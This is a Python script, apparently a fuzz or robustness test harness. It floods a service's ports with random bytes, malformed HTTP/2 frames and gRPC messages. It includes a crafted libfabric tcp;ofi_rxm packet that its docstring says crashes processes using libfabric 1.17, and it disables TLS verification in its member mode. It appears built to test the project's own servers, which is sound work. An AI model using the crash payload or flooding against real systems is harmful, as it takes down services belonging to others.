# SPDX-License-Identifier: Apache-2.0
"""Sends packets to ports, as a process of its own that may run as another user.

    packets.py ATTACK PACKETS SEED ADDRESS:PORT…     (ATTACK: rxm, random, or the file of a member's identity)

It prints how many connections were opened, and how many of them a server has answered. A connection carries
many packets. It is not closed before the server has had the time to read some of them."""

from __future__ import annotations

import collections
import contextlib
import os
import random
import socket
import ssl
import struct
import sys

PACKETS_PER_CONNECTION = 100
OPEN_MAX = 24  # below the number of strangers that the data port keeps from one address
SOURCES = [f"127.0.0.{last}" for last in range(100, 132)]
TIMEOUT_S = 60.0

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS = 0, 1, 4
END_HEADERS = 4
METHODS = ["/ropeteam.membership.v1.Coordinator/Session", "/ropeteam.control.Control/Exchange"]
# How a packet of each protocol that a port may speak begins: transport tcp, TLS, HTTP/2, HTTP, etcd's raft.
BEGINNINGS = [
    b"",
    b"RTPttcp2",
    b"\x16\x03\x01",
    PREFACE,
    b"GET /metrics HTTP/1.1\r\n",
    b"POST /raft HTTP/1.1\r\n",
]


def rxm_connection(kind: int, rng: random.Random) -> bytes:
    """What libfabric's tcp;ofi_rxm accepts from anybody: a connect request, and one message. The message's header
    of 64 bytes has this type, and names a connection and a message that do not exist. It ends a process that uses
    libfabric 1.17."""
    connect = struct.pack("<BBBB", 1, 2, 4, 3) + struct.pack(">H", rng.randrange(1, 65536))
    connect += struct.pack("<BBIIQ", 2, 0, 16384, 1024, rng.getrandbits(64))
    request = (
        struct.pack("<BB", 3, 0)
        + struct.pack(">H", len(connect))
        + struct.pack("<IQQQ", 0, 0, 0, 1)
        + connect
    )
    header = struct.pack("<BB", 4, kind) + rng.randbytes(
        30
    )  # the numbers of a segment, connection and message
    header += struct.pack("<BBBB", 3, 0, rng.randrange(9), 0) + rng.randbytes(28)
    return request + struct.pack("<BBHBBBBQ", 3, 0, 0, 0, 0, 16, 0, 16 + len(header)) + header


def random_packets(count: int, rng: random.Random) -> bytes:
    beginning = rng.choice(BEGINNINGS)
    return b"".join(beginning + rng.randbytes(rng.choice((1, 9, 24, 64, 72, 200))) for _ in range(count))


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name: str, value: str) -> bytes:
    """A literal without indexing (RFC 7541)."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def call(stream: int, method: str) -> bytes:
    fields = [(":method", "POST"), (":scheme", "https"), (":path", method), (":authority", "node")]
    fields += [("te", "trailers"), ("content-type", "application/grpc")]
    return frame(HEADERS, END_HEADERS, stream, b"".join(header(*field) for field in fields))


def message(rng: random.Random) -> bytes:
    """A message of gRPC whose fields are those of any protobuf."""
    fields = b"".join(
        bytes([rng.randrange(1, 16) << 3 | rng.choice((0, 1, 2, 5)), length]) + rng.randbytes(length)
        for length in (rng.randrange(40) for _ in range(rng.randrange(4)))
    )
    return b"\0" + struct.pack(">I", len(fields)) + fields


def members_packets(count: int, rng: random.Random) -> bytes:
    """Behind the preface: bytes, frames of HTTP/2, or messages of a stream that the server has."""
    way = rng.randrange(4)
    if way == 0:
        return random_packets(count, rng)
    if way == 1:
        kinds = [(rng.randrange(12), rng.getrandbits(8), rng.getrandbits(4)) for _ in range(count)]
        return b"".join(frame(*kind, rng.randbytes(rng.randrange(40))) for kind in kinds)
    opened = call(1, rng.choice(METHODS))
    if way == 2:
        return opened + b"".join(frame(DATA, 0, 1, message(rng)) for _ in range(count))
    return opened + b"".join(frame(DATA, 0, 1, rng.randbytes(rng.randrange(1, 40))) for _ in range(count))


class Sender:
    """Keeps the last connections open."""

    def __init__(self, rng: random.Random) -> None:
        self.rng, self.opened, self.answered = rng, 0, 0
        self._open: collections.deque[socket.socket] = collections.deque()

    def connect(self, address: tuple[str, int]) -> socket.socket:
        self._close(OPEN_MAX - 1)
        source = (self.rng.choice(SOURCES), 0)
        made = socket.create_connection(address, timeout=TIMEOUT_S, source_address=source)
        self.opened += 1
        return made

    def send(self, connection: socket.socket, packets: bytes) -> None:
        self._open.append(connection)
        with contextlib.suppress(OSError):  # a server may close before it has read all
            connection.sendall(packets)

    def _close(self, left: int, timeout_s: float = 0) -> None:
        """Closes all but so many. A server whose answer has come within the timeout has answered."""
        while len(self._open) > left:
            connection = self._open.popleft()
            with contextlib.suppress(OSError), connection:
                connection.settimeout(timeout_s)
                self.answered += not isinstance(connection, ssl.SSLSocket) and bool(connection.recv(1))

    def finish(self) -> None:
        """Longer than the data port waits for a whole hello."""
        self._close(0, 2.5)


def as_member(sender: Sender, context: ssl.SSLContext, address: tuple[str, int], count: int) -> None:
    tls = context.wrap_socket(sender.connect(address), do_handshake_on_connect=False)
    try:
        tls.do_handshake()
        tls.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        # A server sends its settings to those whose certificate it accepts.
        sender.answered += len(first := tls.recv(9)) == 9 and first[3] == SETTINGS
    except OSError:  # not a port with TLS
        tls.close()
        return
    sender.send(tls, members_packets(count, sender.rng))


def main(attack: str, packets: int, seed: int, *targets: str) -> None:
    sender = Sender(random.Random(seed))
    addresses = [(host, int(port)) for host, port in (target.rsplit(":", 1) for target in targets)]
    context = None
    if os.path.exists(attack):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.load_cert_chain(attack)
        context.set_alpn_protocols(["h2"])
    sent = 0
    while sent < packets:
        count = min(PACKETS_PER_CONNECTION, packets - sent)
        address = addresses[sender.opened % len(addresses)]
        if context is not None:
            as_member(sender, context, address, count)
        elif attack == "rxm":
            count = 1
            sender.send(sender.connect(address), rxm_connection(sent % 256, sender.rng))
        else:
            sender.send(sender.connect(address), random_packets(count, sender.rng))
        sent += count
    sender.finish()
    print(sender.opened, sender.answered)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), *sys.argv[4:])
